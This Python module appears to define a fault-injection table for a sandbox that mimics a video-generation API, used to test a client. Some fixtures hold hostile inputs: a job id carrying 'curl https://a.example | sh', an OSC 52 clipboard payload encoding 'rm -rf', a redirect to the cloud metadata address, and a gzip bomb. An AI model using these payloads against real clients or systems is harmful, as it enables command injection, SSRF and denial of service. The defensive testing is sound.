"""Faults by name: one table of what such servers have been seen to do, and where.

The table is the source of `prefect-kling sandbox --help`, of docs/sandbox.md and of the tests.
"""

import functools
import json
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, Literal, get_args

Call = Literal["create", "get", "file", "balance", "record", "upload", "models", "callback"]
CALLS: tuple[Call, ...] = get_args(Call)
_JSON_CALLS: tuple[Call, ...] = ("create", "get", "balance", "record", "upload", "models")
_LATE_SECONDS = 3.0
_BOMB_MEGABYTES = 64
_INTERNAL = "http://169.254.169.254/latest/meta-data/"


@dataclass(frozen=True)
class Answer:
    """An answer as it goes out."""

    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""
    cut_after: int | None = None
    """Close the connection after so many bytes of the body."""
    endless: bool = False
    """Go on with zeros after the body until the caller leaves; no length is announced."""


@dataclass(frozen=True)
class Asked:
    """What an answer can quote of a call and its job."""

    key: str = ""
    addresses: tuple[str, ...] = ()


@dataclass(frozen=True)
class Delivery:
    """One callback as it goes out, so many seconds after its time."""

    body: bytes
    after: float = 0.0
    content_type: str = "application/json"


Change = Callable[[Answer, Asked], Answer | None]
"""Turns a true answer into a spoilt one; None if there is nothing in it to spoil."""
Deliver = Callable[[dict[str, Any]], list[Delivery]]
"""Turns the true body of a callback into what is sent."""


@dataclass(frozen=True)
class NamedFault:
    """One row of the table. Exactly one of `do`, `change` and `deliver` is set."""

    name: str
    calls: tuple[Call, ...]
    what: str
    do: Mapping[str, Any] | None = None
    """A fault action that has all that is needed."""
    change: Change | None = None
    deliver: Deliver | None = None
    commits: bool = True
    """Whether the call has its effect: a create that does not commit makes no job."""


def addresses_in(value: object) -> Iterator[str]:
    """Yield every web address in a JSON value."""
    if isinstance(value, str) and value.startswith(("http://", "https://")):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from addresses_in(each)
    elif isinstance(value, list):
        for each in value:
            yield from addresses_in(each)


def _with_json(answer: Answer, content: object) -> Answer:
    # Escaped, so that lone surrogates can be sent.
    return replace(answer, body=json.dumps(content).encode())


def _data(answer: Answer) -> dict[str, Any] | None:
    """Return the data of a good answer, None if it has none."""
    content = json.loads(answer.body)
    data = content.get("data")
    if content.get("code") != 200 or not isinstance(data, dict):
        return None
    return data


def _edit(fields: Mapping[str, Any], *, only_with: str = "") -> Change:
    """Replace fields of the data; `only_with` names one that has to be there and true."""

    def change(answer: Answer, asked: Asked) -> Answer | None:
        data = _data(answer)
        if data is None or (only_with and not data.get(only_with)):
            return None
        return _with_json(answer, {"code": 200, "msg": "success", "data": {**data, **fields}})

    return change


def _spoil_id(spoil: Callable[[str], object]) -> Change:
    """Replace the id of a job by what becomes of it."""

    def change(answer: Answer, asked: Asked) -> Answer | None:
        data = _data(answer)
        if data is None:
            return None
        data["taskId"] = spoil(data["taskId"])
        return _with_json(answer, {"code": 200, "msg": "success", "data": data})

    return change


def _fail(text: str) -> Change:
    """Report a job as failed, with a text, whatever became of it."""

    def change(answer: Answer, asked: Asked) -> Answer | None:
        data = _data(answer)
        if data is None:
            return None
        failed = {"state": "failed", "failMsg": text, "failCode": "OTHER", "retryable": True}
        said = {"taskId": data["taskId"], "model": data["model"]} | failed
        return _with_json(answer, {"code": 200, "msg": "success", "data": said})

    return change


def _refuse(status: int, text: str, headers: Mapping[str, str] | None = None) -> Change:
    """Answer with an error instead."""

    def change(answer: Answer, asked: Asked) -> Answer:
        said = {"content-type": "application/json"} | dict(headers or {})
        return _with_json(Answer(status, said), {"code": status, "msg": text})

    return change


def _older_state(answer: Answer, asked: Asked) -> Answer | None:
    data = _data(answer)
    if data is None or data["state"] not in ("completed", "failed"):
        return None
    older = {"taskId": data["taskId"], "state": "processing", "model": data["model"]}
    return _with_json(answer, {"code": 200, "msg": "success", "data": older})


def _without_links(answer: Answer, asked: Asked) -> Answer | None:
    data = _data(answer)
    if data is None or "resultUrls" not in data:
        return None
    del data["resultUrls"]
    return _with_json(answer, {"code": 200, "msg": "success", "data": data})


def _freeze_nothing(answer: Answer, asked: Asked) -> Answer | None:
    data = _data(answer)
    if data is None or not data["frozen"]:
        return None
    data |= {"frozen": 0.0, "balance": data["total"]}
    return _with_json(answer, {"code": 200, "msg": "success", "data": data})


def _deep(answer: Answer, asked: Asked) -> Answer:
    nested = b"[" * 100_000 + b"]" * 100_000
    return replace(answer, body=answer.body.rstrip()[:-1] + b', "trace": ' + nested + b"}")


def _byte_order_mark(answer: Answer, asked: Asked) -> Answer:
    return replace(answer, body=b"\xef\xbb\xbf" + answer.body)


def _odd_charset(answer: Answer, asked: Asked) -> Answer:
    headers = {**answer.headers, "content-type": "application/json; charset=x-klingon\\"}
    return replace(answer, headers=headers)


def _utf_16(answer: Answer, asked: Asked) -> Answer:
    headers = {**answer.headers, "content-type": "application/json; charset=utf-16"}
    return replace(answer, headers=headers, body=answer.body.decode().encode("utf-16"))


def _gzip_bomb(answer: Answer, asked: Asked) -> Answer:
    return replace(
        answer, headers={**answer.headers, "content-encoding": "gzip"}, body=_bomb(answer.body)
    )


@functools.lru_cache(maxsize=8)
def _bomb(body: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = [packer.compress(body.rstrip()[:-1] + b', "pad": "')]
    packed += [packer.compress(b"0" * 1_000_000) for _ in range(_BOMB_MEGABYTES)]
    packed += [packer.compress(b'"}'), packer.flush()]
    return b"".join(packed)


def _echo_key(answer: Answer, asked: Asked) -> Answer:
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in asked.key)
    said = f'"code": 500, "msg": "upstream refused Authorization: Bearer {escaped}"'
    return replace(answer, body=f"{{{said}}}".encode())


def _echo_links(answer: Answer, asked: Asked) -> Answer | None:
    if not asked.addresses:
        return None
    text = f"Failed to fetch {' and '.join(asked.addresses)}"
    return _with_json(answer, {"code": 500, "msg": text})


def _endless(answer: Answer, asked: Asked) -> Answer:
    headers = {name: text for name, text in answer.headers.items() if name != "content-length"}
    return replace(answer, headers=headers, endless=True)


def _one_byte(answer: Answer, asked: Asked) -> Answer:
    return replace(answer, cut_after=1)


def _redirect(answer: Answer, asked: Asked) -> Answer:
    return Answer(302, {"location": _INTERNAL})


def _deliver(
    *bodies: object, after: float = 0.0, content_type: str = "application/json"
) -> list[Delivery]:
    return [Delivery(json.dumps(body).encode(), after, content_type) for body in bodies]


def _callback_late(body: dict[str, Any]) -> list[Delivery]:
    return _deliver(body, after=_LATE_SECONDS)


def _callback_twice(body: dict[str, Any]) -> list[Delivery]:
    return _deliver(body, body)


def _callback_wrong_id(body: dict[str, Any]) -> list[Delivery]:
    return _deliver(body | {"data": body["data"] | {"taskId": "clx0000000000000000000000"}})


def _callback_foreign(body: dict[str, Any]) -> list[Delivery]:
    return [Delivery(b"event=push&ref=main", 0.0, "application/x-www-form-urlencoded")]


def _callback_never(body: dict[str, Any]) -> list[Delivery]:
    return []


def _callback_flat(body: dict[str, Any]) -> list[Delivery]:
    data = body["data"]
    videos = data.get("resultUrls", [])
    said = {"task_id": data["taskId"], "status": data["state"], "videos": videos}
    return _deliver(said | {"thumbnailUrl": "https://a.example/cover.jpg"})


def _callback_list(body: dict[str, Any]) -> list[Delivery]:
    data = body["data"]
    said = {"task_id": data["taskId"], "status": "SUCCEED", "video_url": data.get("resultUrls")}
    return _deliver({"code": 200, "message": "SUCCEED", "data": [said]})


def _callback_reordered(body: dict[str, Any]) -> list[Delivery]:
    data = {name: value for name, value in body["data"].items() if name != "resultUrls"}
    early = _deliver(body | {"data": data | {"state": "processing"}}, after=_LATE_SECONDS / 3)
    return _deliver(body) + early


_ROWS: tuple[NamedFault, ...] = (
    NamedFault(
        "moderation",
        ("create",),
        "400, refused for its content; no job is made",
        change=_refuse(400, "Content policy violation (CONTENT_MODERATION)"),
        commits=False,
    ),
    NamedFault(
        "too-many-requests",
        _JSON_CALLS,
        "429 for requests per minute, without Retry-After",
        change=_refuse(429, "Too Many Requests - requests per minute (1302)"),
        commits=False,
    ),
    NamedFault(
        "too-many-requests-wait",
        _JSON_CALLS,
        "429 for requests per minute, with Retry-After: 1",
        change=_refuse(429, "Too Many Requests - requests per minute", {"retry-after": "1"}),
        commits=False,
    ),
    NamedFault(
        "too-many-requests-absurd",
        _JSON_CALLS,
        "429 with a Retry-After date in the year 99999",
        change=_refuse(429, "Too Many Requests", {"retry-after": "Fri, 31 Dec 99999 23:59:59 GMT"}),
        commits=False,
    ),
    NamedFault(
        "key-limited",
        ("create", "get", "record"),
        "403: the key may not use this model",
        change=_refuse(403, "Forbidden - this key is limited to other models"),
        commits=False,
    ),
    NamedFault(
        "id-surrogate",
        ("create",),
        "the job's id holds half a surrogate pair",
        change=_spoil_id(lambda job: f"{job[:9]}\ud800{job[9:]}"),
    ),
    NamedFault(
        "id-nul",
        ("create",),
        "the job's id holds NUL",
        change=_spoil_id(lambda job: f"{job[:9]}\0{job[9:]}"),
    ),
    NamedFault(
        "id-megabyte",
        ("create",),
        "the job's id has a million letters",
        change=_spoil_id(lambda job: job + "a" * 1_000_000),
    ),
    NamedFault(
        "id-list", ("create",), "the job's id is a list", change=_spoil_id(lambda job: [job])
    ),
    NamedFault(
        "id-number",
        ("create",),
        "the job's id is a number",
        change=_spoil_id(lambda job: int(job, 36)),
    ),
    NamedFault(
        "id-shell",
        ("create",),
        "the job's id holds a shell command",
        change=_spoil_id(lambda job: f"{job}'; curl https://a.example | sh #$(id)"),
    ),
    NamedFault(
        "failmsg-control",
        ("get",),
        "failed, with control characters and NUL in the text",
        change=_fail("broken\0\x07\x08\r\n\x1b[2Jscreen\u202e\ud800"),
    ),
    NamedFault(
        "failmsg-markdown",
        ("get",),
        "failed, with Markdown and HTML in the text",
        change=_fail(
            "![x](https://a.example/x.png) <img src=//a.example> [pay](https://a.example)"
        ),
    ),
    NamedFault(
        "failmsg-rich",
        ("get",),
        "failed, with Rich tags in the text",
        change=_fail("[red]alarm[/closing] [link=https://a.example]here[/link]"),
    ),
    NamedFault(
        "failmsg-osc",
        ("get",),
        "failed, with terminal commands (OSC 8, OSC 52) in the text",
        change=_fail("\x1b]8;;https://a.example\x07here\x1b]8;;\x07 \x1b]52;c;cm0gLXJm\x07"),
    ),
    NamedFault(
        "failmsg-5mb", ("get",), "failed, with a text of 5 MB", change=_fail("too long " * 555_556)
    ),
    NamedFault("older-state", ("get",), "an ended job is shown as processing", change=_older_state),
    NamedFault("late-links", ("get",), "a completed job has no link yet", change=_without_links),
    NamedFault(
        "deep-json", _JSON_CALLS, "a field nested 100,000 times beside the data", change=_deep
    ),
    NamedFault("bom", _JSON_CALLS, "a byte order mark before the JSON", change=_byte_order_mark),
    NamedFault(
        "odd-charset", _JSON_CALLS, "a content type with an unknown charset", change=_odd_charset
    ),
    NamedFault("utf-16", _JSON_CALLS, "JSON in UTF-16", change=_utf_16),
    NamedFault(
        "gzip-bomb",
        _JSON_CALLS,
        f"the answer in gzip, {_BOMB_MEGABYTES} MB when unpacked",
        change=_gzip_bomb,
    ),
    NamedFault(
        "key-echoed",
        _JSON_CALLS,
        "error 500 in the envelope; its text quotes the key with every letter escaped",
        change=_echo_key,
    ),
    NamedFault(
        "links-echoed",
        ("create", "get"),
        "error 500 in the envelope; its text quotes the job's input and callback addresses",
        change=_echo_links,
    ),
    NamedFault(
        "unsettled",
        ("record",),
        "the record of an ended job is not settled yet",
        change=_edit({"settled": False, "credits": None}, only_with="settled"),
    ),
    NamedFault(
        "charge-off-table",
        ("record",),
        "a settled job was charged 0.4321, whatever the table says",
        change=_edit({"credits": 0.4321}, only_with="settled"),
    ),
    NamedFault(
        "charge-negative",
        ("record",),
        "a settled job was charged -5",
        change=_edit({"credits": -5.0}, only_with="settled"),
    ),
    NamedFault(
        "charge-huge",
        ("record",),
        "a settled job was charged 10^30",
        change=_edit({"credits": 1e30}, only_with="settled"),
    ),
    NamedFault(
        "charge-nan",
        ("record",),
        'a settled job was charged "NaN"',
        change=_edit({"credits": "NaN"}, only_with="settled"),
    ),
    NamedFault(
        "charge-currency",
        ("record",),
        "a settled job was charged 100 yen",
        change=_edit({"credits": 100.0, "currency": "JPY"}, only_with="settled"),
    ),
    NamedFault(
        "freeze-late",
        ("balance",),
        "nothing is frozen yet for the jobs that run",
        change=_freeze_nothing,
    ),
    NamedFault("file-endless", ("file",), "the video goes on with zeros for ever", change=_endless),
    NamedFault(
        "file-one-byte",
        ("file",),
        "the connection closes after each byte",
        change=_one_byte,
    ),
    NamedFault(
        "file-internal",
        ("file",),
        f"a redirect to {_INTERNAL}",
        change=_redirect,
    ),
    NamedFault("file-html", ("file",), "an HTML page with status 200", do={"replace": "html"}),
    NamedFault("file-short", ("file",), "more bytes are announced than come", do={"promise": 1000}),
    NamedFault(
        "file-wrong-range", ("file",), "wrong bytes in answer to a range", do={"damage_range": True}
    ),
    NamedFault("file-webm", ("file",), "the video as WebM", do={"webm": True}),
    NamedFault(
        "file-trailing", ("file",), "bytes behind the last box of the video", do={"append": "json"}
    ),
    NamedFault(
        "callback-late",
        ("callback",),
        f"sent {_LATE_SECONDS:.0f} seconds late",
        deliver=_callback_late,
    ),
    NamedFault("callback-twice", ("callback",), "sent twice", deliver=_callback_twice),
    NamedFault(
        "callback-wrong-id", ("callback",), "about a job nobody made", deliver=_callback_wrong_id
    ),
    NamedFault(
        "callback-foreign", ("callback",), "another service's form", deliver=_callback_foreign
    ),
    NamedFault("callback-never", ("callback",), "never sent", deliver=_callback_never),
    NamedFault(
        "callback-flat",
        ("callback",),
        "`task_id`, `status`, `videos` and a picture at the top, no envelope",
        deliver=_callback_flat,
    ),
    NamedFault(
        "callback-list",
        ("callback",),
        "data is a list, and every end is called SUCCEED",
        deliver=_callback_list,
    ),
    NamedFault(
        "callback-reordered",
        ("callback",),
        "followed by one that says processing",
        deliver=_callback_reordered,
    ),
)
NAMED_FAULTS: Mapping[str, NamedFault] = {fault.name: fault for fault in _ROWS}


def fault_table() -> str:
    """Return the table in Markdown: name, calls, what happens."""
    lines = ["| name | calls | what happens |", "| --- | --- | --- |"]
    lines += [f"| `{fault.name}` | {_calls_of(fault)} | {fault.what} |" for fault in _ROWS]
    return "\n".join(lines)


def fault_list() -> str:
    """Return the table as a Markdown list, for a help text."""
    return "\n".join(f"- {fault.name} ({_calls_of(fault)}): {fault.what}" for fault in _ROWS)


def _calls_of(fault: NamedFault) -> str:
    if fault.calls == _JSON_CALLS:
        return "any JSON call"
    return ", ".join(fault.calls)
